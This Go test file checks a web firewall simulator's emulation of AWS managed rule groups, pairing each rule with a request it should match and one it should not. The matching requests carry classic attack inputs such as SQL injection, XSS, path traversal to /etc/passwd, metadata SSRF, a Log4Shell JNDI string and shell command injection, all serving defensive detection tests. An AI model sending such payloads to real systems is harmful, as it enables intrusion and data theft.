package managed_test

import (
	"net/netip"
	"slices"
	"strings"
	"testing"

	"fathom/engine/webacl"
	"fathom/engine/webacl/managed"
)

// get is a request as a browser sends it.
func get(uri string, headers ...string) *webacl.Request {
	path, query, _ := strings.Cut(uri, "?")
	r := &webacl.Request{
		Method: "GET", Path: path, Query: query, Version: "HTTP/1.1", Scheme: "https", Client: netip.MustParseAddr("203.0.113.7"),
		Headers: []webacl.Header{
			{Name: "Host", Value: "shop.example.com"},
			{Name: "User-Agent", Value: browserAgent},
			{Name: "Accept", Value: "text/html,*/*;q=0.8"},
			{Name: "Accept-Encoding", Value: "gzip, br"},
		},
		Time: 1_700_000_000e9,
	}
	for i := 0; i+1 < len(headers); i += 2 {
		with(r, headers[i], headers[i+1])
	}
	return r
}

const browserAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"

// with sets a header, or drops it where the value is "-".
func with(r *webacl.Request, name, value string) *webacl.Request {
	r.Headers = slices.DeleteFunc(r.Headers, func(h webacl.Header) bool { return strings.EqualFold(h.Name, name) })
	if value != "-" {
		r.Headers = append(r.Headers, webacl.Header{Name: name, Value: value})
	}
	return r
}

func post(path, contentType, body string) *webacl.Request {
	r := with(get(path), "Content-Type", contentType)
	r.Method, r.Body = "POST", []byte(body)
	return r
}

func form(body string) *webacl.Request {
	return post("/form", "application/x-www-form-urlencoded", body)
}

func method(m string) *webacl.Request {
	r := get("/")
	r.Method = m
	return r
}

func client(a string) *webacl.Request {
	r := get("/")
	r.Client = netip.MustParseAddr(a)
	return r
}

func agent(s string) *webacl.Request { return get("/", "User-Agent", s) }

// tester evaluates requests against one group whose rules all only count, so that
// every rule is seen.
type tester struct {
	*testing.T
	program *webacl.Program
	v       webacl.Verdict
}

func counting(t *testing.T, o managed.Options, name string, counter webacl.Counter) *tester {
	t.Helper()
	ref := configured(name)
	for _, r := range group(t, o, name).Rules {
		ref.Overrides = append(ref.Overrides, webacl.RuleOverride{Rule: r.Name, Action: webacl.Action{Kind: webacl.Count}})
	}
	return compile(t, o, ref, counter)
}

func compile(t *testing.T, o managed.Options, ref webacl.ManagedRef, counter webacl.Counter) *tester {
	t.Helper()
	p, problems := webacl.Compile(&webacl.ACL{
		Name: "test", Resource: webacl.LoadBalancer, Default: webacl.Action{Kind: webacl.Allow},
		Rules: []webacl.Rule{{Name: "group", Statement: ref, Override: webacl.OverrideNone}},
	}, webacl.Options{Managed: managed.Catalogue(options(t, o)), Counter: counter})
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	return &tester{T: t, program: p}
}

func (t *tester) eval(r *webacl.Request) *webacl.Verdict {
	t.Helper()
	t.program.Evaluate(r, &t.v)
	if t.v.Err != nil {
		t.Fatal(t.v.Err)
	}
	return &t.v
}

// match says what became of a rule: yes, no or unknown.
func (t *tester) match(rule string) (string, *webacl.Match) {
	for i := range t.v.Matches {
		if t.v.Matches[i].Rule == rule {
			return "yes", &t.v.Matches[i]
		}
	}
	for _, u := range t.v.Undecidable {
		if u.Rule == rule {
			return "unknown", nil
		}
	}
	return "no", nil
}

// pair is a request that a rule must match, and one that it must not.
type pair struct{ yes, no *webacl.Request }

var long = strings.Repeat

// requests are the pairs of the rules that look at one request alone.
var requests = map[string]map[string]pair{
	"AWSManagedRulesCommonRuleSet": {
		"NoUserAgent_HEADER":                  {get("/", "User-Agent", "-"), get("/")},
		"UserAgent_BadBots_HEADER":            {agent("Mozilla/5.00 (Nikto/2.1.6)"), get("/")},
		"SizeRestrictions_QUERYSTRING":        {get("/?a=" + long("b", 2047)), get("/?a=" + long("b", 2046))},
		"SizeRestrictions_Cookie_HEADER":      {get("/", "Cookie", long("c", 10241)), get("/", "Cookie", long("c", 10240))},
		"SizeRestrictions_BODY":               {form(long("d", 8193)), form(long("d", 8192))},
		"SizeRestrictions_URIPATH":            {get("/" + long("e", 1024)), get("/" + long("e", 1023))},
		"EC2MetaDataSSRF_BODY":                {form("u=http%253A%252F%252F169.254.169.254%252Flatest"), form("u=http://example.com/169")},
		"EC2MetaDataSSRF_COOKIE":              {get("/", "Cookie", "u=http://169.254.169.254/"), get("/", "Cookie", "u=1")},
		"EC2MetaDataSSRF_URIPATH":             {get("/proxy/http://169.254.169.254/latest"), get("/169.254.169")},
		"EC2MetaDataSSRF_QUERYARGUMENTS":      {get("/?u=http://2852039166/latest"), get("/?u=2852039166")},
		"GenericLFI_QUERYARGUMENTS":           {get("/?f=../../etc/passwd"), get("/?f=a/b/c")},
		"GenericLFI_URIPATH":                  {get("/a/..%2f..%2fb?x=1"), get("/a/b?f=../../x")},
		"GenericLFI_BODY":                     {form("f=../../etc/passwd"), get("/?f=../../etc/passwd")},
		"RestrictedExtensions_URIPATH":        {get("/app/server.log"), get("/app/server.png")},
		"RestrictedExtensions_QUERYARGUMENTS": {get("/?f=conf.ini"), get("/?f=initial")},
		"GenericRFI_QUERYARGUMENTS":           {get("/?u=http%253A%252F%252F192.0.2.1/x"), get("/?u=https://example.com/")},
		"GenericRFI_BODY":                     {form("u=ftp://192.0.2.1/x"), form("u=192.0.2.1")},
		"GenericRFI_URIPATH":                  {get("/file://192.0.2.1/x"), get("/1/2/3")},
		"CrossSiteScripting_COOKIE":           {get("/", "Cookie", "a=<script>alert(1)</script>"), get("/", "Cookie", "a=b")},
		"CrossSiteScripting_QUERYARGUMENTS":   {get("/?q=%253Cscript%253Ealert(1)%253C/script%253E"), get("/?q=shirt")},
		"CrossSiteScripting_BODY":             {form("q=%3Cscript%3Ealert(1)%3C/script%3E"), form("q=shirt")},
		"CrossSiteScripting_URIPATH":          {get("/<script>alert(1)</script>"), get("/shirts")},
	},
	"AWSManagedRulesAdminProtectionRuleSet": {
		"AdminProtection_URIPATH": {get("/sqlmanager/index.php"), get("/blog/administrators-guide")},
	},
	"AWSManagedRulesKnownBadInputsRuleSet": {
		"JavaDeserializationRCE_HEADER":      {get("/", "X-Api", `(java.lang.Runtime).getRuntime().exec("whoami")`), get("/", "X-Api", "java")},
		"JavaDeserializationRCE_BODY":        {form(`x=(java.lang.Runtime).getRuntime().exec("whoami")`), form("x=java")},
		"JavaDeserializationRCE_URIPATH":     {get("/x(java.lang.Runtime)"), get("/java/lang")},
		"JavaDeserializationRCE_QUERYSTRING": {get("/?x=java.lang.Runtime.getRuntime()"), get("/?x=java")},
		"Host_localhost_HEADER":              {get("/", "Host", "Localhost:8080"), get("/", "Host", "localhost.example.com")},
		"PROPFIND_METHOD":                    {method("PROPFIND"), method("PROPPATCH")},
		"ExploitablePaths_URIPATH":           {get("/WEB-INF/web.xml"), get("/web/info")},
		"Log4JRCE_HEADER":                    {get("/", "X-Api", "${jndi:ldap://example.com/a}"), get("/", "X-Api", "jndi")},
		"Log4JRCE_QUERYSTRING":               {get("/?x=$%7Bjndi:ldap://example.com/a%7D"), get("/$%7Bjndi:ldap:x%7D?x=1")},
		"Log4JRCE_BODY":                      {form("x=${jndi:ldap://example.com/a}"), get("/?x=$%7Bjndi:ldap://example.com/a%7D")},
		"Log4JRCE_URIPATH":                   {get("/$%7Bjndi:ldap:x%7D?x=1"), get("/jndi?x=$%7Bjndi:ldap:x%7D")},
		"ReactJSRCE_BODY":                    {post("/", "text/plain", `{"then":"$1:__proto__:then"}`), post("/", "text/plain", `{"constructor":"Ann"}`)},
	},
	"AWSManagedRulesSQLiRuleSet": {
		"SQLi_QUERYARGUMENTS":                 {get("/?id=1%27%20OR%20%271%27=%271"), get("/?id=O%27Brien")},
		"SQLi_BODY":                           {post("/", "application/json", `{"id":"1' OR '1'='1"}`), post("/", "application/json", `{"id":"O'Brien"}`)},
		"SQLi_COOKIE":                         {get("/", "Cookie", "id=1' UNION SELECT 1,2--"), get("/", "Cookie", "id=1")},
		"SQLi_URIPATH":                        {get("/1'%20OR%20'1'='1"), get("/shirts/1")},
		"SQLiExtendedPatterns_QUERYARGUMENTS": {get("/?id=sleep(10)"), get("/?id=sleep%20well")},
		"SQLiExtendedPatterns_BODY":           {form("id=1;select pg_sleep(5)"), get("/?id=sleep(10)")},
		"SQLiExtendedPatterns_HEADER":         {get("/", "Referer", "x;select pg_sleep(5)"), get("/?id=sleep(10)")},
		"SQLiExtendedPatterns_URIPATH":        {get("/a;sleep(10)"), get("/?id=sleep(10)")},
	},
	"AWSManagedRulesLinuxRuleSet": {
		"LFI_URIPATH":     {get("/x/proc/version"), get("/process/version")},
		"LFI_QUERYSTRING": {get("/?f=%252fetc%252fpasswd"), get("/?f=etcetera")},
		"LFI_HEADER":      {get("/", "X-File", "/proc/version"), get("/?f=/etc/passwd")},
	},
	"AWSManagedRulesUnixRuleSet": {
		"UNIXShellCommandsVariables_QUERYSTRING": {get("/?x=;cat%20/etc/passwd"), get("/?x=cat")},
		"UNIXShellCommandsVariables_BODY":        {form("x=$(id)"), get("/?x=$(id)")},
		"UNIXShellCommandsVariables_HEADER":      {get("/", "X-A", "() { :;}; echo 1"), get("/?x=$(id)")},
	},
	"AWSManagedRulesWindowsRuleSet": {
		"WindowsShellCommands_COOKIE":         {get("/", "Cookie", "a=|dir c:"), get("/", "Cookie", "a=dir")},
		"WindowsShellCommands_QUERYARGUMENTS": {get("/?x=%26%20dir%20c:"), get("/?x=dir")},
		"WindowsShellCommands_BODY":           {form("x=%26%20dir%20c:"), get("/?x=%26%20dir%20c:")},
		"WindowsShellCommands_HEADER":         {get("/", "X-A", "|nslookup example.com"), get("/", "X-A", "nslookup")},
		"WindowsShellCommands_QUERYSTRING":    {get("/?x=%26%20dir%20c:"), get("/?x=dir")},
		"WindowsShellCommands_URIPATH":        {get("/a;cmd%20/c"), get("/a/cmd")},
		"PowerShellCommands_COOKIE":           {get("/", "Cookie", "a=Invoke-Expression"), get("/", "Cookie", "a=b")},
		"PowerShellCommands_QUERYARGUMENTS":   {get("/?x=Invoke-Expression"), get("/?x=invoke")},
		"PowerShellCommands_BODY":             {form("x=Invoke-Expression"), get("/?x=Invoke-Expression")},
	},
	"AWSManagedRulesPHPRuleSet": {
		"PHPHighRiskMethodsVariables_HEADER":      {get("/", "X-A", "fsockopen('x')"), get("/", "X-A", "fsockopen")},
		"PHPHighRiskMethodsVariables_QUERYSTRING": {get("/?x=$_GET[a]"), get("/?x=GET")},
		"PHPHighRiskMethodsVariables_BODY":        {form("x=<?php phpinfo();"), get("/?x=$_GET[a]")},
		"PHPHighRiskMethodsVariables_URIPATH":     {get("/${@print(1)}"), get("/?x=$_GET[a]")},
	},
	"AWSManagedRulesWordPressRuleSet": {
		"WordPressExploitableCommands_QUERYSTRING": {get("/?do-reset-wordpress"), get("/?reset=1")},
		"WordPressExploitablePaths_URIPATH":        {get("/xmlrpc.php"), get("/xmlrpc.html")},
	},
	"AWSManagedRulesAmazonIpReputationList": {
		"AWSManagedIPReputationList":   {client("192.0.2.9"), client("203.0.113.7")},
		"AWSManagedReconnaissanceList": {client("192.0.2.9"), client("203.0.113.7")},
		"AWSManagedIPDDoSList":         {client("192.0.2.9"), client("203.0.113.7")},
	},
	"AWSManagedRulesAnonymousIpList": {
		"AnonymousIPList":       {client("2001:db8::1"), client("2001:db9::1")},
		"HostingProviderIPList": {client("192.0.2.9"), client("203.0.113.7")},
	},
	"AWSManagedRulesBotControlRuleSet": {
		"CategoryAdvertising":       {agent("AdsBot-Google (+http://www.google.com/adsbot.html)"), get("/")},
		"CategoryArchiver":          {agent("Mozilla/5.0 (compatible; heritrix/3.4)"), get("/")},
		"CategoryContentFetcher":    {agent("Feedly/1.0 (+http://www.feedly.com/fetcher.html)"), get("/")},
		"CategoryEmailClient":       {agent("YahooMailProxy; https://help.yahoo.com/"), get("/")},
		"CategoryHttpLibrary":       {agent("curl/8.5.0"), get("/")},
		"CategoryLinkChecker":       {agent("W3C-checklink/4.81"), get("/")},
		"CategoryMiscellaneous":     {agent("my-crawler/1.0"), get("/")},
		"CategoryMonitoring":        {agent("Pingdom.com_bot_version_1.4"), get("/")},
		"CategoryPagePreview":       {agent("TelegramBot (like TwitterPreview)"), get("/")},
		"CategoryScrapingFramework": {agent("Scrapy/2.11 (+https://scrapy.org)"), get("/")},
		"CategorySearchEngine":      {agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), get("/")},
		"CategorySecurity":          {agent("sqlmap/1.8"), get("/")},
		"CategorySeo":               {agent("Mozilla/5.0 (compatible; MJ12bot/v1.4.8)"), get("/")},
		"CategorySocialMedia":       {agent("LinkedInBot/1.0"), get("/")},
		"CategoryWebhooks":          {agent("PayPal IPN ( https://www.paypal.com/ipn )"), get("/")},
		"CategoryAI":                {agent("Mozilla/5.0 (compatible; GPTBot/1.2)"), get("/")},
		"SignalAutomatedBrowser":    {agent(strings.Replace(browserAgent, "Chrome", "HeadlessChrome", 1)), get("/")},
		"SignalKnownBotDataCenter":  {client("192.0.2.9"), client("203.0.113.7")},
		"SignalNonBrowserUserAgent": {agent("shop-app/3.1 (iOS 18)"), get("/")},
	},
}

func list(t *testing.T, text string) *managed.Prefixes {
	t.Helper()
	p, problems := managed.ParsePrefixes("list.txt", []byte(text))
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	return p
}

// listed are options with every list.
func listed(t *testing.T) managed.Options {
	bad, anon := list(t, "192.0.2.0/24 # bad\n"), list(t, "2001:db8::/32\n")
	real := list(t, "198.51.100.0/24")
	return managed.Options{
		Reputation: bad, Reconnaissance: bad, DDoS: bad, Hosting: bad, Anonymous: anon, DataCenters: bad,
		Bots: map[string]*managed.Prefixes{"googlebot": real, "adsbot_google": real, "pingdom": real, "linkedinbot": real, "gptbot": real},
	}
}

func TestEachRuleMatchesAndDoesNot_12(t *testing.T) {
	for name, rules := range requests {
		in := counting(t, listed(t), name, nil)
		for rule, p := range rules {
			in.eval(p.yes)
			got, m := in.match(rule)
			if got != "yes" {
				t.Errorf("%s: %s %s?%s gives %s, want a match; matched %v", rule, p.yes.Method, p.yes.Path, p.yes.Query, got, rulesOf(in.v.Matches))
				continue
			}
			if m.Basis.Kind == webacl.NotSimulated {
				t.Errorf("%s matches, and says that it is not simulated", rule)
			}
			for _, l := range group(t, listed(t), name).Rules {
				if l.Name == rule && !slices.Contains(in.v.Labels, l.Labels[0]) {
					t.Errorf("%s: labels %v lack %s", rule, in.v.Labels, l.Labels[0])
				}
			}
			in.eval(p.no)
			if got, m := in.match(rule); got != "no" {
				t.Errorf("%s: %s %s?%s gives %s, want no match: %+v", rule, p.no.Method, p.no.Path, p.no.Query, got, m)
			}
		}
	}
}

func rulesOf(ms []webacl.Match) []string {
	var out []string
	for _, m := range ms {
		out = append(out, m.Rule)
	}
	return out
}

// Every rule of the sheet that is simulated has its pair, here or in the tests of
// what counts.
func TestEachSimulatedRuleHasItsPair(t *testing.T) {
	for _, name := range managed.Names() {
		switch name {
		case "AWSManagedRulesATPRuleSet", "AWSManagedRulesACFPRuleSet", "AWSManagedRulesAntiDDoSRuleSet":
			continue
		}
		for _, r := range group(t, listed(t), name).Rules {
			if _, ok := requests[name][r.Name]; !ok && r.Basis.Kind != webacl.NotSimulated && !strings.HasPrefix(r.Name, "TGT_") {
				t.Errorf("%s: %s has no pair", name, r.Name)
			}
		}
	}
}

func TestOrdinaryRequestsMatchNothing(t *testing.T) {
	ordinary := []*webacl.Request{
		get("/products?category=shirts&page=2&sort=price"),
		get("/static/app.js", "Referer", "https://shop.example.com/products?page=2"),
		form("username=ann%40example.com&password=correct-horse-battery"),
		post("/api/checkout", "application/json", `{"cartId":"c-81723","shipping":{"name":"Ann O'Brien","street":"12 Long Lane"},"note":"Thanks, and see you soon!"}`),
		get("/search?q=select+a+shirt+from+the+union+collection", "Cookie", "session=4f1c2a9be03d; theme=dark"),
	}
	for name := range requests {
		in := counting(t, listed(t), name, nil)
		for _, r := range ordinary {
			if v := in.eval(r); len(v.Matches) > 0 && !(len(v.Matches) == 1 && v.Matches[0].Rule == "TGT_TokenAbsent") {
				t.Errorf("%s: %s %s?%s matches %v", name, r.Method, r.Path, r.Query, rulesOf(v.Matches))
			}
		}
	}
}

func TestStandInsSayWhatTheyFound(t *testing.T) {
	in := counting(t, managed.Options{}, "AWSManagedRulesCommonRuleSet", nil)
	in.eval(get("/?f=../../etc/passwd"))
	_, m := in.match("GenericLFI_QUERYARGUMENTS")
	if m == nil || len(m.Details) == 0 {
		t.Fatalf("no details: %+v", m)
	}
	d := m.Details[0]
	if !strings.HasPrefix(d.Source, "CRS 9301") || d.Field != "QUERY_STRING" || d.Name != "f" || d.End <= d.Start || !strings.Contains(d.Value[d.Start:d.End], "..") {
		t.Errorf("detail %+v", d)
	}
	if m.Basis.Kind != webacl.StandIn || !strings.Contains(m.Basis.Source, "CRS") {
		t.Errorf("basis %+v", m.Basis)
	}
}

func TestUnknownBodyIsUndecidableNotMissed(t *testing.T) {
	in := counting(t, managed.Options{}, "AWSManagedRulesCommonRuleSet", nil)
	r := form("")
	r.Missing = webacl.PartBody
	in.eval(r)
	for _, rule := range []string{"GenericLFI_BODY", "SizeRestrictions_BODY", "CrossSiteScripting_BODY"} {
		if got, _ := in.match(rule); got != "unknown" {
			t.Errorf("%s: %s, want unknown", rule, got)
		}
	}
	if got, _ := in.match("GenericLFI_QUERYARGUMENTS"); got != "no" {
		t.Errorf("GenericLFI_QUERYARGUMENTS: %s, want no", got)
	}
	r = get("/?f=../../x")
	r.Missing = webacl.PartBody
	in.eval(r)
	if got, _ := in.match("GenericLFI_QUERYARGUMENTS"); got != "yes" {
		t.Error("what is known is not looked at where the body is not")
	}
}

func TestDefaultActionBlocks(t *testing.T) {
	in := compile(t, managed.Options{}, configured("AWSManagedRulesCommonRuleSet"), nil)
	v := in.eval(get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"))
	if v.Action != webacl.Block || v.Rule != "group" || v.Inner != "CrossSiteScripting_QUERYARGUMENTS" || v.Type != "MANAGED_RULE_GROUP" {
		t.Errorf("%v by %s/%s, %s", v.Action, v.Rule, v.Inner, v.Type)
	}
	if v := in.eval(get("/")); v.Action != webacl.Allow || !v.Certain {
		t.Errorf("%v by %s, certain %t", v.Action, v.Rule, v.Certain)
	}
}
